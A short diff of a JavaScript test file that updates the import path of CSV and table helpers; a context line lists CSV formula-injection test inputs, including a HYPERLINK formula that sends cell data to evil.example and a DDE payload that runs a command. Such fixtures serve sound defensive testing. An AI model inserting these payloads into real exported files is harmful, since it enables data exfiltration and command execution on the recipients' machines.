@@ -5,7 +5,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { test } from 'node:test';
 import { fileURLToPath } from 'node:url';
-import { readCsv, readScene, readTable, writeCsv, writeTable } from '../../web/page/scene.js';
+import { readCsv, readScene, readTable, writeCsv, writeTable } from '../../web/pages/operator/scene.js';
 
 const root = path.resolve(fileURLToPath(import.meta.url), '../../..');
 const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1', '\r=1', '- Ciao, come va?', '=1,2\n3'];
